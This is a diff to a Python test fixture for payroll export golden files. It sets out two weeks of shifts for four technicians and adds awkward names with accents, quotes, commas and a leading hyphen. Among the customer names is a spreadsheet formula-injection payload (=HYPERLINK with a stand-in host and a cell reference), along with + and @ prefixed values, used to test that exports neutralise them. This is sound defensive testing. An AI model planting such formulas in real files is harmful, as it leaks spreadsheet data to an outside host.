@@ -1,14 +1,17 @@
 """The fixed scenario of the export golden files: a bi-weekly period (Mon 2026-03-02 to
-Sun 2026-03-15) of four technicians.
+Sun 2026-03-15) of four technicians, with hostile names as payroll meets them: accents,
+a three-part name, apostrophes, quotes, commas, a one-word display name, and customers
+whose names a spreadsheet would run as formulas (=, +, @; the generic file neutralises
+them, import files carry QuickBooks jobs and identities instead).
 
-- T-100 Maria Lopez (FLSA, Chicago): 10-hour days in week 1 (29 CFR 778.104: 10 hours of
+- T-100 José Núñez Ruiz (FLSA, Chicago): 10-hour days in week 1 (29 CFR 778.104: 10 hours of
   overtime over 40), odd minutes, a non-billable warranty work order on Wednesday.
-- T-200 Ana Ruiz (California, Los Angeles): a 12.5-hour Monday (Lab. Code 510: 4 hours of
+- T-200 Ana "Annie" O'Neil (California, Los Angeles): a 12.5-hour Monday (Lab. Code 510: 4 hours of
   overtime and 0.5 of double time), a late meal on Tuesday (Lab. Code 226.7: one premium
   hour), a short Saturday.
-- T-300 Ben Okafor (FLSA, Chicago): night shifts across midnight, one of them from the
+- T-300 Okafor, one word on the pages; Ben Okafor in payroll (FLSA, Chicago): night shifts across midnight, one of them from the
   period's last Sunday into the next period (its Monday part is paid there).
-- T-400 Chen Wu (FLSA, Chicago): an ordinary fortnight, left unapproved in the store tests.
+- T-400 -Chen Wu (FLSA, Chicago): an ordinary fortnight, left unapproved in the store tests.
 """
 
 from __future__ import annotations
@@ -20,10 +23,11 @@ from decimal import Decimal
 from zoneinfo import ZoneInfo
 
 from hub.export.context import ExportContext, TechnicianSheet, WorkOrderInfo
+from hub.export.identities import Identity
 from hub.export.period_hours import PayPeriod
 from hub.rules.events import BreakKind, DriveLeg, Place, Punch, PunchAction, WorkOrderCheck
 from hub.rules.timesheet import TechnicianProfile, compute_timesheets
-from hub.settings import AdpExport, ExportSettings, IifExport, PaychexExport, PayrollSettings
+from hub.settings import AdpExport, ExportSettings, IifExport, MileageSettings, PaychexExport, PayrollSettings
 from hub.store.models import Technician
 
 CHICAGO = ZoneInfo("America/Chicago")
@@ -32,10 +36,11 @@ PERIOD = PayPeriod(date(2026, 3, 2), date(2026, 3, 15))
 MON1, MON2 = date(2026, 3, 2), date(2026, 3, 9)
 
 WORK_ORDERS = {
-    "WO-7": WorkOrderInfo("Lakeview Dental", True),
-    "WO-9": WorkOrderInfo("Northside Clinic", False),  # warranty call-back: not billable
-    "WO-12": WorkOrderInfo("Harbor Foods", True),
-    "WO-15": WorkOrderInfo("Pacific Storage", True),
+    "WO-7": WorkOrderInfo("Lakeview Dental", True, "Lakeview Dental:WO-7"),
+    # warranty call-back: not billable
+    "WO-9": WorkOrderInfo('=HYPERLINK("http://x"&A1,"Click")', False, "Northside Clinic:Warranty"),
+    "WO-12": WorkOrderInfo("+Harbor Foods, Inc.", True, "Harbor Foods, Inc.:WO-12"),
+    "WO-15": WorkOrderInfo("@Pacific Storage", True, "Pacific Storage:WO-15"),
 }
 
 
@@ -47,6 +52,9 @@ class Tech:
     policy: str
     zone: str
     wage: Decimal
+    given_name: str
+    family_name: str
+    identities: dict[str, Identity]
 
     @property
     def tz(self) -> ZoneInfo:
@@ -54,19 +62,34 @@ class Tech:
 
     def row(self) -> Technician:
         return Technician(
-            id=self.id, name=self.name, job_title="Field technician", payroll_id=self.payroll_id,
+            id=self.id, name=self.name, given_name=self.given_name, family_name=self.family_name,
+            job_title="Field technician", payroll_id=self.payroll_id,
             wage=self.wage, cost_rate=self.wage * Decimal("1.3"), billing_rate=Decimal("125"),
             overtime_policy=self.policy, payroll_timezone=self.zone, home_depot_id="north",
             tracks_time=True, active=True,
         )
 
 
+def _ids(n: int, gusto: str, quickbooks: str) -> dict[str, Identity]:
+    return {"adp": Identity(f"{n:06d}"), "paychex": Identity(f"T{n}"), "gusto": Identity(gusto),
+            "iif": Identity(None, quickbooks)}
+
+
 TECHNICIANS = (
-    Tech("T-100", "Maria Lopez", "000100", "flsa", "America/Chicago", Decimal("30.00")),
-    Tech("T-200", "Ana Ruiz", "000200", "california", "America/Los_Angeles", Decimal("34.50")),
-    Tech("T-300", "Ben Okafor", "000300", "flsa", "America/Chicago", Decimal("28.00")),
-    Tech("T-400", "Chen Wu", "000400", "flsa", "America/Chicago", Decimal("29.00")),
+    Tech("T-100", "José Núñez Ruiz", "000100", "flsa", "America/Chicago", Decimal("30.00"), "José", "Núñez Ruiz",
+         _ids(100, "a1b2c3", "Núñez Ruiz, José")),
+    Tech("T-200", 'Ana "Annie" O\'Neil', "000200", "california", "America/Los_Angeles", Decimal("34.50"), "Ana",
+         "O'Neil", _ids(200, "d4e5f6", "O'Neil, Ana")),
+    Tech("T-300", "Okafor", "000300", "flsa", "America/Chicago", Decimal("28.00"), "Ben", "Okafor",
+         _ids(300, "g7h8i9", "Okafor, Ben")),
+    Tech("T-400", "-Chen Wu", "000400", "flsa", "America/Chicago", Decimal("29.00"), "Chen", "Wu",
+         _ids(400, "j1k2l3", "Wu, Chen")),
 )
+
+
+def identities(provider: str | None) -> dict[str, Identity]:
+    """Each technician's identity in `provider` (none for DepotClock's own CSV)."""
+    return {} if provider is None else {t.id: t.identities[provider] for t in TECHNICIANS}
 
 
 class _Day:
@@ -180,11 +203,13 @@ def sheets(only: tuple[str, ...] = ("T-100", "T-200", "T-300")) -> list[Technici
 
 
 SETTINGS = ExportSettings(
-    adp=AdpExport(company_code="DC1", batch_id="MAR02"),
+    adp=AdpExport(company_code="DC1", batch_id="MAR"),
     paychex=PaychexExport(client_id="70012345"),
     iif=IifExport(company_name="Depot Services LLC", company_create_time=1767225600),
+    mileage=MileageSettings(unit="mile", rate=Decimal("0.70")),
 )
+EXPORT_ID = 1  # the export's number in the golden files (ADP's Batch ID)
 
 
-def context(preview: bool = False) -> ExportContext:
-    return ExportContext(PERIOD, SETTINGS, preview, dict(WORK_ORDERS))
+def context(preview: bool = False, provider: str | None = None) -> ExportContext:
+    return ExportContext(PERIOD, SETTINGS, preview, dict(WORK_ORDERS), identities(provider), EXPORT_ID)
